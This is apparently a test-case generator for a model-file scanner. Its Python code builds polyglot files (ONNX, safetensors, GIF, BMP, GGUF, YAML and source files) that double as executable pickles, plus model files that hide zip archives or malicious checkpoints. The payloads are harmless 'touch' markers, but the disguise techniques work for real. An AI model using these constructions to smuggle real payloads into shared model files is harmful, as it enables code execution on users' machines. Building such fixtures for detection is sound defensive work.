"""Files that are two things: a harmless one to whoever looks at the extension or the signature, a running pickle or an archive to another."""
import struct

import graphs
import scripts
from arrays import safetensors
from opcodes import *
from torch_files import DATA, checkpoint, document, state, tensor, tar_header
from zips import Archive, Member

GOOD = checkpoint(state(w=tensor()))
SCRIPT = [Member("b/data.pkl", scripts.module()), Member("b/data/0", DATA), Member("b/code/__torch__.py", scripts.net("return x").encode()), Member("b/constants.pkl", document(EMPTY_TUPLE)), Member("b/version", b"3\n")]


def safetensors_pickle(attack):
    # The header's length begins with "C", which takes as many bytes as the length's second byte says: up to the name of the tensor.
    # That is texts of 0x7e bytes, the last of which ends in the data.
    length, text = 0x0843, b"U~" + b"w" * 126
    rest = len(text) - (length - 2) % len(text)
    content = b" " * rest + attack
    end = b'":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(content), len(content))
    name = (text * 20)[: length - 2 - len(end)]
    return safetensors(b'{"' + name + end, content)


def running_pickles():
    attack = payload() + STOP
    # model_version 0x55 is "(U" to a pickle; U takes as many bytes as the next tag says, 0x12, which is producer_name.
    text_of_producer = b" " * 17 + attack
    yield "polyglot-onnx-pickle.onnx", b"\x28\x55\x12" + graphs.varint(len(text_of_producer)) + text_of_producer + graphs.model()
    yield "polyglot-safetensors-pickle.safetensors", safetensors_pickle(attack)
    yield "polyglot-gif-pickle.gif", b"GIF89a" + b"\0" * 3 + attack
    yield "polyglot-bmp-pickle.bmp", b"BM" + b"\0" * (3 + ord("M")) + attack
    yield "polyglot-gguf-pickle.gguf", b"GGUF\x03\0\0\0\0" + attack
    yield "polyglot-tar-pickle.tar", tar_header(document(payload()), 0) + b"\0" * 1024
    yield "polyglot-yaml-pickle.yaml", b"cposix\nsystem\n(S'touch hullmark-was-here'\ntR.\nkey: value\n"
    yield "polyglot-source-pickle.py", b"cposix\nsystem\n(S'touch hullmark-was-here'\ntR0#!/usr/bin/python3\nimport os\n"


def archives():
    attack = checkpoint(payload())
    keras = Archive([Member("config.json", b'{"class_name": "Lambda"}'), Member("metadata.json", b"{}")]).bytes()
    yield "polyglot-onnx-zip.onnx", graphs.model(more=graphs.part(14, graphs.part(1, "k") + graphs.part(2, keras)))
    yield "polyglot-onnx-then-zip.onnx", graphs.model() + keras
    yield "polyglot-safetensors-zip.safetensors", safetensors({"w": {"dtype": "U8", "shape": [len(keras)], "data_offsets": [0, len(keras)]}}, keras)
    yield "polyglot-npy-zip.npy", npy_of(keras)
    yield "polyglot-pickle-zip.pt", document(EMPTY_DICT) + attack
    yield "polyglot-zip-pickle-behind.pt", GOOD + document(payload())
    yield "polyglot-checkpoint-and-script.pt", Archive([Member("a/data.pkl", document(payload())), Member("a/version", b"3\n"), *SCRIPT]).bytes()
    yield "polyglot-npz-checkpoint.npz", Archive([Member("a.npy", b""), Member("m/data.pkl", document(payload()))]).bytes()


def npy_of(content):
    header = b"{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % len(content)
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + content


def cases():
    yield from running_pickles()
    yield from archives()
